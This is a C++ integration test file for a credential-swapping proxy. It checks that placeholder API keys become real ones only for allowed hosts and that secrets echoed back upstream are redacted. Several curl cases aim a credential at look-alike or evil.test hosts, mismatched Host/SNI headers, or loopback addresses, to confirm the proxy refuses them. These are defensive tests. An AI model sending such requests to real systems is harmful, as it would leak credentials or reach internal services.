// Real curl through the proxy, TLS on both legs, real host names mapped to local fakes through the
// resolve override. Label: integration (needs curl). Nothing leaves 127.0.0.1 (resolve_only).
#include <gtest/gtest.h>

#include "base/strings.h"
#include "base/subprocess.h"
#include "proxy/test_env.h"
#include "vault/crypto.h"

namespace cloister::proxy::testing {
namespace {

using CurlResult = CurlOut;

// Real curl through the fixture's proxy, trusting its CA.
CurlResult Curl(ProxyEnv& env, std::vector<std::string> args) {
  std::vector<std::string> a = {"-x", env.ProxyUrl(), "--cacert", env.ca_file};
  a.insert(a.end(), args.begin(), args.end());
  return RunCurl(a);
}

class CurlTest : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!ProgramExists("curl")) GTEST_SKIP() << "curl not installed";
  }
  // One TLS fake upstream that answers 200 when it gets a real credential, 401 otherwise.
  void StartUpstream(std::shared_ptr<CertAuthority> ca = nullptr) {
    auto up = FakeUpstream::Start(ca ? ca : env_.upstream_ca, [](const SeenRequest& r,
                                                                 ResponseWriter& w) {
      std::string all;
      for (const auto& [k, v] : r.headers) all += v + "\n";
      bool real = all.find("REAL") != std::string::npos ||
                  all.find(vault::Base64Encode("x-access-token:" + kRealGithub)) != std::string::npos;
      w.Send(real ? 200 : 401, {{"Content-Type", "application/json"}},
             real ? "{\"ok\":true}" : "{\"error\":\"bad key\"}");
    });
    ASSERT_TRUE(up.ok());
    upstream_ = std::move(up).value();
  }
  void StartProxyFor(const std::vector<std::string>& hosts) {
    std::map<std::string, std::string> resolve;
    for (const auto& h : hosts) resolve[h + ":443"] = upstream_->Address();
    env_.StartProxy(resolve);
  }
  ProxyEnv env_;
  std::unique_ptr<FakeUpstream> upstream_;
};

TEST_F(CurlTest, AnthropicKeySwappedInHeaderOverTls) {
  StartUpstream();
  StartProxyFor({"api.anthropic.com"});
  const std::string& ph = env_.Placeholder(0);
  CurlResult r = Curl(env_, {"-H", "x-api-key: " + ph, "-H", "content-type: application/json",
                             "-d", "{\"model\":\"m\"}", "https://api.anthropic.com/v1/messages"});
  EXPECT_EQ(r.code, 200) << r.err;
  EXPECT_EQ(r.body, "{\"ok\":true}");
  ASSERT_EQ(upstream_->requests().size(), 1u);
  SeenRequest seen = upstream_->requests()[0];
  EXPECT_EQ(seen.sni, "api.anthropic.com");
  EXPECT_EQ(seen.Header("host"), "api.anthropic.com");
  EXPECT_EQ(seen.Header("x-api-key"), kRealAnthropic);  // the upstream sees the real value
  EXPECT_EQ(seen.body, "{\"model\":\"m\"}");
  EXPECT_EQ(r.body.find("REAL"), std::string::npos);
  auto trace = std::make_optional(env_.TraceAtLeast(1));
  ASSERT_EQ(trace->size(), 1u);
  EXPECT_EQ((*trace)[0].swaps, std::vector<std::string>{"anthropic"});
  EXPECT_EQ((*trace)[0].status, 200);
  // The trace never holds a real value.
  std::string raw = *vault::ReadSmallFile(env_.trace_path, 1 << 20);
  EXPECT_EQ(raw.find("REAL"), std::string::npos);
}

TEST_F(CurlTest, GithubTokenInEveryAuthorizationForm) {
  StartUpstream();
  StartProxyFor({"api.github.com", "github.com"});
  const std::string& ph = env_.Placeholder(1);
  for (const std::string& auth : {"token " + ph, "Bearer " + ph,
                                  "Basic " + vault::Base64Encode("x-access-token:" + ph)}) {
    CurlResult r = Curl(env_, {"-H", "Authorization: " + auth, "https://api.github.com/user"});
    EXPECT_EQ(r.code, 200) << auth << " " << r.err;
  }
  CurlResult git = Curl(env_, {"-u", "x-access-token:" + ph, "https://github.com/o/r.git/info/refs"});
  EXPECT_EQ(git.code, 200) << git.err;
  EXPECT_FALSE(env_.proxy->compromised());
}

TEST_F(CurlTest, OpenaiBearerAndNoSwapWithoutCredentialHeader) {
  StartUpstream();
  StartProxyFor({"api.openai.com"});
  CurlResult ok = Curl(env_, {"-H", "Authorization: Bearer " + env_.Placeholder(2),
                              "https://api.openai.com/v1/models"});
  EXPECT_EQ(ok.code, 200) << ok.err;
  // The same placeholder in a header that is not the kind's: not swapped (and in scope: no trip).
  CurlResult other = Curl(env_, {"-H", "X-Other: " + env_.Placeholder(2),
                                 "https://api.openai.com/v1/models"});
  EXPECT_EQ(other.code, 401);
  EXPECT_EQ(upstream_->requests().back().Header("x-other"), env_.Placeholder(2));
  EXPECT_FALSE(env_.proxy->compromised());
}

class LookAlikeTest : public CurlTest, public ::testing::WithParamInterface<std::string> {};

TEST_P(LookAlikeTest, GetsNoCredentialAndTrips) {
  StartUpstream();
  const std::string host = GetParam();
  StartProxyFor({host, "api.anthropic.com"});
  CurlResult r = Curl(env_, {"-H", "x-api-key: " + env_.Placeholder(0), "https://" + host + "/v1"});
  EXPECT_EQ(r.code, 451) << r.err;
  EXPECT_TRUE(upstream_->requests().empty());
  ASSERT_EQ(env_.Events().size(), 1u);
  EXPECT_EQ(env_.Events()[0].host, host);
  EXPECT_EQ(env_.Events()[0].credential, "anthropic");
  EXPECT_TRUE(env_.proxy->compromised());
}

INSTANTIATE_TEST_SUITE_P(Hosts, LookAlikeTest,
                         ::testing::Values("api.anthropic.com.evil.test", "evilanthropic.com",
                                           "xapi.anthropic.com", "anthropic.com"));

TEST_F(CurlTest, HostHeaderDisagreeingWithSniIsOutOfScope) {
  StartUpstream();
  StartProxyFor({"api.anthropic.com"});
  CurlResult r = Curl(env_, {"-H", "Host: evil.test", "-H", "x-api-key: " + env_.Placeholder(0),
                             "https://api.anthropic.com/v1"});
  EXPECT_EQ(r.code, 451) << r.err;
  EXPECT_TRUE(upstream_->requests().empty());
}

TEST_F(CurlTest, ConnectAuthorityDisagreeingWithSniIsOutOfScope) {
  StartUpstream();
  StartProxyFor({"api.anthropic.com", "evil.test"});
  // curl sends SNI and Host api.anthropic.com but CONNECTs to evil.test.
  CurlResult r = Curl(env_, {"--connect-to", "api.anthropic.com:443:evil.test:443", "-H",
                             "x-api-key: " + env_.Placeholder(0), "https://api.anthropic.com/v1"});
  EXPECT_EQ(r.code, 451) << r.err;
  EXPECT_TRUE(upstream_->requests().empty());
  ASSERT_FALSE(env_.Events().empty());
  EXPECT_EQ(env_.Events()[0].host, "evil.test");
}

TEST_F(CurlTest, RealValueEchoedByUpstreamNeverReachesTheClient) {
  auto up = FakeUpstream::Start(env_.upstream_ca, [](const SeenRequest& r, ResponseWriter& w) {
    // A careless upstream that reflects the key in a header and, split, in a chunked body.
    std::string key = r.Header("x-api-key");
    w.StartChunked(401, {{"X-Echo", key}});
    w.Chunk("{\"error\":\"invalid key " + key.substr(0, 20));
    w.Chunk(key.substr(20) + "\"}");
    w.End();
  });
  ASSERT_TRUE(up.ok());
  upstream_ = std::move(up).value();
  StartProxyFor({"api.anthropic.com"});
  CurlResult r = Curl(env_, {"-i", "-H", "x-api-key: " + env_.Placeholder(0),
                             "https://api.anthropic.com/v1"});
  EXPECT_EQ(r.code, 401) << r.err;
  EXPECT_EQ(upstream_->requests()[0].Header("x-api-key"), kRealAnthropic);
  EXPECT_EQ(r.body.find("REAL"), std::string::npos) << r.body;
  EXPECT_NE(r.body.find("invalid key " + env_.Placeholder(0)), std::string::npos) << r.body;
}

TEST_F(CurlTest, UntrustedUpstreamCertificateIs502) {
  auto rogue = *CertAuthority::CreateInMemory("rogue CA");
  StartUpstream(rogue);
  StartProxyFor({"api.anthropic.com"});
  CurlResult r = Curl(env_, {"-H", "x-api-key: " + env_.Placeholder(0),
                             "https://api.anthropic.com/v1"});
  EXPECT_EQ(r.code, 502) << r.err;
  EXPECT_NE(r.body.find("certificate verification failed"), std::string::npos) << r.body;
  EXPECT_TRUE(upstream_->requests().empty());
}

TEST_F(CurlTest, UnmappedHostNeverLeavesLoopback) {
  StartUpstream();
  StartProxyFor({"api.anthropic.com"});
  CurlResult r = Curl(env_, {"https://example.invalid/"});
  EXPECT_EQ(r.code, 502);
}

// SECURITY: a name whose answer is the host itself is never connected to, so the guest cannot
// reach the host's own services (or link-local metadata) by naming them. "localhost" resolves
// from /etc/hosts, so nothing here asks a DNS server; the fake listens on 127.0.0.1.
TEST_F(CurlTest, ANameThatResolvesToLoopbackIsNeverConnected) {
  StartUpstream();
  const std::string addr = upstream_->Address();  // 127.0.0.1:PORT
  const std::string port = addr.substr(addr.rfind(':') + 1);
  env_.resolve_only = false;
  env_.StartProxy({{"mapped.test:" + port, addr}});
  // Control: the same listener through the resolve override is reached (so a connection to it
  // would be seen below).
  CurlResult mapped = Curl(env_, {"https://mapped.test:" + port + "/"});
  EXPECT_EQ(mapped.code, 401) << mapped.err;
  ASSERT_EQ(upstream_->requests().size(), 1u);
  for (const std::string& host : {std::string("localhost"), std::string("127.0.0.1")}) {
    CurlResult r = Curl(env_, {"https://" + host + ":" + port + "/"});
    EXPECT_NE(r.code, 200) << host;
    EXPECT_NE(r.code, 401) << host << ": the upstream answered";
    EXPECT_EQ(upstream_->requests().size(), 1u) << host << " reached the host's loopback";
  }
  std::string refusals;
  for (const auto& rec : env_.TraceAtLeast(3)) refusals += rec.error + "\n";
  EXPECT_NE(refusals.find("resolves to a loopback"), std::string::npos) << refusals;
}

class TestFilter : public ExtensionFilter {
 public:
  explicit TestFilter(std::string mode) : mode_(std::move(mode)) {}
  Result<ExtensionVerdict> OnRequestHead(RequestHead& head) override {
    if (head.host != "api.anthropic.com") return ExtensionVerdict{};
    if (mode_ == "deny") return Error(ErrorCode::kPermissionDenied, "signature mismatch");
    if (mode_ == "trip") return Error(ErrorCode::kCompromised, "token replayed elsewhere");
    head.headers.push_back({"X-Signed", "yes:" + head.method + ":" + head.target});
    ExtensionVerdict v;
    v.handled = true;
    v.need_full_body = mode_ == "full";
    v.max_body = 1 << 20;
    struct Upper : BodyTransform {
      Result<std::string> Data(std::string_view in) override {
        std::string s(in);
        for (char& c : s) c = static_cast<char>(toupper(static_cast<unsigned char>(c)));
        return s;
      }
      Result<std::string> End() override { return std::string(); }
    };
    v.body = std::make_unique<Upper>();
    return v;
  }
  Status OnFullBody(RequestHead& head, std::string_view body) override {
    head.headers.push_back({"X-Body-Len", std::to_string(body.size())});
    return OkStatus();
  }

 private:
  std::string mode_;
};

TEST_F(CurlTest, RequestFiltersRewriteHeadAndBody) {
  for (std::string mode : {"stream", "full"}) {
    ProxyEnv env;
    auto up = FakeUpstream::Start(env.upstream_ca, Hello());
    ASSERT_TRUE(up.ok());
    env.extension_filters = {std::make_shared<TestFilter>(mode)};
    env.StartProxy({{"api.anthropic.com:443", (*up)->Address()}});
    CurlResult r = Curl(env, {"-d", "abc", "https://api.anthropic.com/v1?x=1"});
    EXPECT_EQ(r.code, 200) << r.err;
    ASSERT_EQ((*up)->requests().size(), 1u);
    auto seen = (*up)->requests()[0];
    EXPECT_EQ(seen.body, "ABC");
    EXPECT_EQ(seen.Header("x-signed"), "yes:POST:/v1?x=1");
    EXPECT_EQ(seen.Header("x-body-len"), mode == "full" ? "3" : "");
  }
}

TEST_F(CurlTest, RequestFilterErrorsRefuseOrTrip) {
  {
    ProxyEnv env;
    auto up = FakeUpstream::Start(env.upstream_ca, Hello());
    env.extension_filters = {std::make_shared<TestFilter>("deny")};
    env.StartProxy({{"api.anthropic.com:443", (*up)->Address()}});
    EXPECT_EQ(Curl(env, {"https://api.anthropic.com/v1"}).code, 403);
    EXPECT_TRUE((*up)->requests().empty());
    EXPECT_FALSE(env.proxy->compromised());
  }
  {
    ProxyEnv env;
    auto up = FakeUpstream::Start(env.upstream_ca, Hello());
    env.extension_filters = {std::make_shared<TestFilter>("trip")};
    env.StartProxy({{"api.anthropic.com:443", (*up)->Address()}});
    EXPECT_EQ(Curl(env, {"https://api.anthropic.com/v1"}).code, 451);
    EXPECT_TRUE((*up)->requests().empty());
    EXPECT_TRUE(env.proxy->compromised());
    EXPECT_EQ(env.Events().size(), 1u);
  }
}

// Issue 15 item 7: in proxy mode the CONNECT authority, the SNI and the Host header agree, or 421:
// CONNECT allowed.test then Host: blocked.test must not reach blocked.test through a front that
// serves both names (here: one upstream for both).
TEST_F(CurlTest, HostOrSniOtherThanTheConnectAuthorityIs421) {
  StartUpstream();
  StartProxyFor({"allowed.test", "blocked.test"});
  CurlResult host = Curl(env_, {"-H", "Host: blocked.test", "https://allowed.test/v1"});
  EXPECT_EQ(host.code, 421) << host.err;
  EXPECT_EQ(host.connect, 200);
  // curl CONNECTs allowed.test but sends SNI and Host blocked.test.
  CurlResult sni = Curl(env_, {"--connect-to", "blocked.test:443:allowed.test:443",
                               "https://blocked.test/v1"});
  EXPECT_EQ(sni.code, 421) << sni.err;
  EXPECT_TRUE(upstream_->requests().empty());
  EXPECT_FALSE(env_.proxy->compromised());
  CurlResult agree = Curl(env_, {"https://allowed.test/v1"});
  EXPECT_EQ(agree.code, 401) << agree.err;  // reached (no credential for allowed.test)
  ASSERT_EQ(upstream_->requests().size(), 1u);
  std::string errors;
  for (const auto& rec : env_.TraceAtLeast(3)) errors += rec.error + "\n";
  EXPECT_NE(errors.find("Host blocked.test does not match the CONNECT authority allowed.test"),
            std::string::npos) << errors;
  EXPECT_NE(errors.find("TLS SNI blocked.test does not match"), std::string::npos) << errors;
}

// Issue 15 item 4: an upstream that echoes the key URL-encoded, base64-encoded or hex-encoded
// (in a header and in a streamed body) hands the guest none of those forms.
TEST_F(CurlTest, RealValueEchoedInAnyEncodingNeverReachesTheClient) {
  auto up = FakeUpstream::Start(env_.upstream_ca, [](const SeenRequest& r, ResponseWriter& w) {
    std::string key = r.Header("x-api-key");
    std::string pct, hex;
    for (unsigned char c : key) {
      char b[4];
      snprintf(b, sizeof b, "%%%02X", c);
      pct += b;
      snprintf(b, sizeof b, "%02x", c);
      hex += b;
    }
    std::string b64 = vault::Base64Encode("key=" + key);
    std::string b64url = vault::Base64Encode("k:" + key, /*url=*/true, false);
    w.StartChunked(401, {{"X-Echo-B64", b64}, {"X-Accept-Encoding", r.Header("accept-encoding")}});
    std::string body = "pct=" + pct + " hex=" + hex + " b64=" + b64 + " b64url=" + b64url;
    w.Chunk(body.substr(0, body.size() / 2));
    w.Chunk(body.substr(body.size() / 2));
    w.End();
  });
  ASSERT_TRUE(up.ok());
  upstream_ = std::move(up).value();
  StartProxyFor({"api.anthropic.com"});
  CurlResult r = Curl(env_, {"-i", "--compressed", "-H", "x-api-key: " + env_.Placeholder(0),
                             "https://api.anthropic.com/v1"});
  EXPECT_EQ(r.code, 401) << r.err;
  ASSERT_EQ(upstream_->requests().size(), 1u);
  EXPECT_EQ(upstream_->requests()[0].Header("x-api-key"), kRealAnthropic);
  // A request that carried a real value asks for the plain bytes, whatever the client accepts.
  EXPECT_EQ(upstream_->requests()[0].Header("accept-encoding"), "identity");
  // No window of the real value's distinctive part survives in any form.
  const std::string secret = "REALxANTHROPICxSECRETx0123456789";
  std::string hex_secret, pct_secret;
  for (unsigned char c : secret) {
    char b[4];
    snprintf(b, sizeof b, "%02x", c);
    hex_secret += b;
    snprintf(b, sizeof b, "%%%02X", c);
    pct_secret += b;
  }
  EXPECT_EQ(r.body.find(secret), std::string::npos) << r.body;
  EXPECT_EQ(r.body.find(hex_secret), std::string::npos) << r.body;
  EXPECT_EQ(r.body.find(pct_secret), std::string::npos) << r.body;
  for (const std::string& b64 : {vault::Base64Encode("key=" + kRealAnthropic),
                                 vault::Base64Encode("k:" + kRealAnthropic, true, false)}) {
    EXPECT_EQ(r.body.find(b64.substr(8, 40)), std::string::npos) << r.body;
  }
  EXPECT_NE(r.body.find(vault::Base64Encode("key=" + env_.Placeholder(0)).substr(8, 40)),
            std::string::npos) << r.body;
}

// Issue 15 item 4: an upstream that ignores Accept-Encoding: identity and compresses its answer
// to a request that carried a real value is refused (the redactor could not read it).
TEST_F(CurlTest, EncodedResponseToARequestWithARealValueIs502) {
  auto up = FakeUpstream::Start(env_.upstream_ca, [](const SeenRequest&, ResponseWriter& w) {
    w.Send(200, {{"Content-Encoding", "gzip"}}, std::string("\x1f\x8b\x08\x00", 4));
  });
  ASSERT_TRUE(up.ok());
  upstream_ = std::move(up).value();
  StartProxyFor({"api.anthropic.com", "example.test"});
  CurlResult r = Curl(env_, {"-H", "x-api-key: " + env_.Placeholder(0), "https://api.anthropic.com/v1"});
  EXPECT_EQ(r.code, 502) << r.err;
  EXPECT_NE(r.body.find("Content-Encoding: gzip"), std::string::npos) << r.body;
  // Without a credential in the request, the response passes as it is.
  CurlResult plain = Curl(env_, {"https://example.test/"});
  EXPECT_EQ(plain.code, 200) << plain.err;
}

// The ResponseTransform seam (filter.h) with a fake transform: identity upstream, 502 on an encoded
// response, the whole body held (up to max_body, 502 past it), OnBody's result replaces it with a
// recomputed Content-Length, and an error from OnHead or OnBody is 502 with its message.
class FakeResponseFilter : public ExtensionFilter {
 public:
  Result<ExtensionVerdict> OnRequestHead(RequestHead& head) override {
    if (head.host != "api.anthropic.com") return ExtensionVerdict{};
    struct Transform : ResponseTransform {
      Result<ResponseHold> OnHead(ResponseHead& h) override {
        for (const auto& [k, v] : h.headers) {
          if (k == "X-Fail" && v == "head") return Error(ErrorCode::kPermissionDenied, "head refused");
        }
        h.headers.push_back({"X-Transformed", "yes"});
        return ResponseHold{true, 64};
      }
      Result<std::string> OnBody(ResponseHead& h, std::string body) override {
        if (body.find("fail") != std::string::npos) {
          return Error(ErrorCode::kPermissionDenied, "body refused");
        }
        h.headers.push_back({"X-Body-Seen", std::to_string(body.size())});
        return "[" + body + "]" + std::string(10, '+');
      }
    };
    ExtensionVerdict v;
    v.handled = true;
    v.response = std::make_unique<Transform>();
    return v;
  }
  Status OnFullBody(RequestHead&, std::string_view) override { return OkStatus(); }
};

TEST_F(CurlTest, ResponseTransformSeesAndReplacesTheWholeBody) {
  auto up = FakeUpstream::Start(env_.upstream_ca, [](const SeenRequest& r, ResponseWriter& w) {
    std::string t = r.target;
    std::map<std::string, std::string> h = {{"X-Accept-Encoding", r.Header("accept-encoding")}};
    if (t == "/gzip") h["Content-Encoding"] = "gzip";
    if (t == "/head") h["X-Fail"] = "head";
    if (t == "/big") {
      w.Send(200, h, std::string(65, 'b'));
      return;
    }
    if (t == "/chunked") {
      w.StartChunked(200, h);
      w.Chunk("one,");
      w.Chunk("two");
      w.End();
      return;
    }
    w.Send(200, h, t == "/fail" ? "please fail" : "hello");
  });
  ASSERT_TRUE(up.ok());
  upstream_ = std::move(up).value();
  env_.extension_filters = {std::make_shared<FakeResponseFilter>()};
  StartProxyFor({"api.anthropic.com"});
  const std::string base = "https://api.anthropic.com";
  CurlResult ok = Curl(env_, {"-i", "--compressed", base + "/ok"});
  EXPECT_EQ(ok.code, 200) << ok.err;
  EXPECT_NE(ok.body.find("\r\n\r\n[hello]++++++++++"), std::string::npos) << ok.body;
  std::string lower = ToLower(ok.body);
  EXPECT_NE(lower.find("content-length: 17\r\n"), std::string::npos) << ok.body;
  EXPECT_NE(lower.find("x-transformed: yes"), std::string::npos) << ok.body;
  EXPECT_NE(lower.find("x-body-seen: 5"), std::string::npos) << ok.body;
  EXPECT_NE(lower.find("x-accept-encoding: identity"), std::string::npos) << ok.body;
  CurlResult chunked = Curl(env_, {"-i", base + "/chunked"});
  EXPECT_EQ(chunked.code, 200) << chunked.err;
  EXPECT_NE(chunked.body.find("[one,two]++++++++++"), std::string::npos) << chunked.body;
  EXPECT_NE(ToLower(chunked.body).find("content-length: 19\r\n"), std::string::npos) << chunked.body;
  EXPECT_EQ(ToLower(chunked.body).find("transfer-encoding"), std::string::npos) << chunked.body;
  CurlResult gzip = Curl(env_, {base + "/gzip"});
  EXPECT_EQ(gzip.code, 502) << gzip.err;
  CurlResult big = Curl(env_, {base + "/big"});
  EXPECT_EQ(big.code, 502) << big.err;
  EXPECT_NE(big.body.find("longer than 64 bytes"), std::string::npos) << big.body;
  EXPECT_EQ(big.body.find("bbbb"), std::string::npos) << big.body;
  CurlResult head = Curl(env_, {base + "/head"});
  EXPECT_EQ(head.code, 502) << head.err;
  EXPECT_NE(head.body.find("head refused"), std::string::npos) << head.body;
  CurlResult body = Curl(env_, {base + "/fail"});
  EXPECT_EQ(body.code, 502) << body.err;
  EXPECT_NE(body.body.find("body refused"), std::string::npos) << body.body;
  EXPECT_EQ(body.body.find("please"), std::string::npos) << body.body;
  std::string errors;
  for (const auto& rec : env_.TraceAtLeast(6)) errors += rec.error + "\n";
  EXPECT_NE(errors.find("body refused"), std::string::npos) << errors;
}

}  // namespace
}  // namespace cloister::proxy::testing
